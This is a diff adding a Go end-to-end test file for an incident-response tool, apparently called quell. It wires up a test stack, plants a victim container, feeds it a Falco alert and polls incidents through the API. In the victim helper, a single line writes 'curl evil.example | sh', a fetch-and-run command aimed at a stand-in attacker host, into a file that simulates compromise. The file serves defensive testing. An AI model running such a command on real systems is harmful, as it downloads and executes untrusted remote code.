@@ -1,0 +1,165 @@
+// Package e2e tests quell end to end: alerts through the HTTP API, on an
+// embedded Temporal server, against the real Docker daemon.
+package e2e
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/quell-ir/quell/internal/app"
+	"github.com/quell-ir/quell/internal/config"
+	"github.com/quell-ir/quell/internal/devserver"
+	"github.com/quell-ir/quell/internal/docker"
+	"github.com/quell-ir/quell/internal/docker/dockertest"
+	"github.com/quell-ir/quell/internal/incident"
+)
+
+// stack is quell dev assembled in the test process.
+type stack struct {
+	t      *testing.T
+	cfg    config.Config
+	docker *docker.Client
+	url    string
+}
+
+// startStack runs an embedded Temporal on a SQLite file, a worker and the
+// API; playbookDir "" loads the built-in library.
+func startStack(t *testing.T, playbookDir string, edit func(*config.Config)) *stack {
+	t.Helper()
+	rt := dockertest.Client(t)
+	cfg := config.Default()
+	cfg.DataDir = t.TempDir()
+	cfg.Playbooks = playbookDir
+	cfg.Incidents.DedupWindow = time.Hour
+	if edit != nil {
+		edit(&cfg)
+	}
+	srv, err := devserver.Start(devserver.Options{DBPath: filepath.Join(cfg.DataDir, "temporal.db")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = srv.Stop() })
+	cfg.Temporal.Address = srv.HostPort()
+	log := slog.New(slog.NewTextHandler(io.Discard, nil))
+	c, err := app.Dial(cfg, log)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(c.Close)
+	w := app.NewWorker(c, cfg, rt)
+	if err := w.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(w.Stop)
+	pbs, err := app.LoadPlaybooks(cfg.Playbooks)
+	if err != nil {
+		t.Fatal(err)
+	}
+	api := httptest.NewServer(app.NewAPI(c, cfg, pbs, log))
+	t.Cleanup(api.Close)
+	return &stack{t: t, cfg: cfg, docker: rt, url: api.URL}
+}
+
+// victim starts a container on an internal network and plays the attacker
+// in it.
+func victim(t *testing.T, rt *docker.Client, name string) docker.Container {
+	t.Helper()
+	img := dockertest.Image(t, rt)
+	ctr := dockertest.Run(t, rt, img, dockertest.RunOptions{
+		Name: name, Networks: []string{dockertest.Network(t, rt)}, Aliases: []string{"app"},
+	})
+	dockertest.Exec(t, rt, ctr.ID, "/bin/busybox", "sh", "-c", "echo 'curl evil.example | sh' > /pwned.txt")
+	return ctr
+}
+
+// falcoAlert is Falco's documented terminal-shell alert (falcosecurity/falco-website,
+// CC BY 4.0, from ../shared/samples) aimed at the container id.
+func falcoAlert(t *testing.T, containerID string) []byte {
+	t.Helper()
+	b, err := os.ReadFile("../../../shared/samples/falco-website_docs-outputs-channels_terminal-shell.json")
+	if err != nil {
+		t.Fatalf("sample alert: %v", err)
+	}
+	return bytes.ReplaceAll(b, []byte("ee97d9c4186f"), []byte(containerID[:12]))
+}
+
+// do sends a request and decodes a JSON answer into out (when not nil).
+func (s *stack) do(method, path, token string, body []byte, out any) int {
+	s.t.Helper()
+	req, err := http.NewRequest(method, s.url+path, bytes.NewReader(body))
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	if token != "" {
+		req.Header.Set("Authorization", "Bearer "+token)
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	raw, _ := io.ReadAll(resp.Body)
+	if out != nil {
+		if err := json.Unmarshal(raw, out); err != nil {
+			s.t.Fatalf("%s %s: %d %s: %v", method, path, resp.StatusCode, raw, err)
+		}
+	}
+	return resp.StatusCode
+}
+
+func (s *stack) get(path string) string {
+	s.t.Helper()
+	resp, err := http.Get(s.url + path)
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	if resp.StatusCode != http.StatusOK {
+		s.t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
+	}
+	return string(b)
+}
+
+// incident polls the incident until done says so, or fails after timeout.
+func (s *stack) incident(id string, timeout time.Duration, done func(incident.Incident) bool) incident.Incident {
+	s.t.Helper()
+	return waitIncident(s.t, s.url, id, timeout, done)
+}
+
+func waitIncident(t *testing.T, url, id string, timeout time.Duration, done func(incident.Incident) bool) incident.Incident {
+	t.Helper()
+	deadline := time.Now().Add(timeout)
+	var last incident.Incident
+	var lastErr string
+	for time.Now().Before(deadline) {
+		resp, err := http.Get(url + "/v1/incidents/" + id)
+		if err == nil {
+			b, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode == http.StatusOK && json.Unmarshal(b, &last) == nil && done(last) {
+				return last
+			}
+			lastErr = fmt.Sprintf("%d %s", resp.StatusCode, strings.TrimSpace(string(b)))
+		} else {
+			lastErr = err.Error()
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	t.Fatalf("incident %s not there after %s: status %q steps %+v (last answer %.300s)", id, timeout, last.Status, last.Steps, lastErr)
+	return last
+}
+
+func hasStatus(status string) func(incident.Incident) bool {
+	return func(i incident.Incident) bool { return i.Status == status }
+}
